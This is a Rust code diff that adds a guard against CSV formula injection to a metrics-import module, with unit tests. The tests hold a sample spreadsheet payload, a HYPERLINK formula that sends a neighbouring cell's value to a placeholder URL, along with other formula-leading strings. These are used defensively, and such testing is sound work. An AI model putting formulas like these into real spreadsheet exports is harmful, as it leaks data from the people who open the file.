@@ -31,6 +31,19 @@ Acme Robotics,REVENUE,1250000.00,2026-03-31,2026-03-31,import\n\
 Acme Robotics,CASH_BURN,310000,2026-03-31,,import\n\
 6f1d1f1e-0000-4000-8000-000000000001,EBITDA,-45000.50,2026-04-02,2026-03-31,manual\n";
 
+/// A cell for a CSV file people open in a spreadsheet: text starting with `=`, `+`, `-`, `@`, tab or
+/// carriage return would run as a formula (`=HYPERLINK(…)` leaking the neighbouring cells), so it
+/// gets a leading `'`, which spreadsheets show as text. A cell that is a number (`-45000.50`)
+/// stays as it is, so negative figures remain numeric.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && cell.parse::<Decimal>().is_err() {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
 /// One problem in the file. `line` is 1-based as an editor shows it (the header is line 1).
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct RowError {
@@ -308,4 +321,23 @@ pub fn check_value(metric: Metric, v: Decimal) -> Result<Decimal, String> {
         return Err(format!("must not exceed {MAX_AMOUNT}"));
     }
     Ok(v)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn spreadsheet_formulas_are_neutralised_and_numbers_kept() {
+        assert_eq!(spreadsheet_safe("=HYPERLINK(\"https://x/?\"&B2,\"x\")"), "'=HYPERLINK(\"https://x/?\"&B2,\"x\")");
+        for risky in ["+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "=1"] {
+            assert_eq!(spreadsheet_safe(risky), format!("'{risky}"), "{risky:?}");
+        }
+        for kept in ["-45000.50", "-1", "+1", "Acme Robotics", "", "2026-03-31"] {
+            assert_eq!(spreadsheet_safe(kept), kept, "{kept:?}");
+        }
+        for cell in CSV_TEMPLATE.lines().flat_map(|l| l.split(',')) {
+            assert_eq!(spreadsheet_safe(cell), cell, "the template's cells are safe as they are");
+        }
+    }
 }
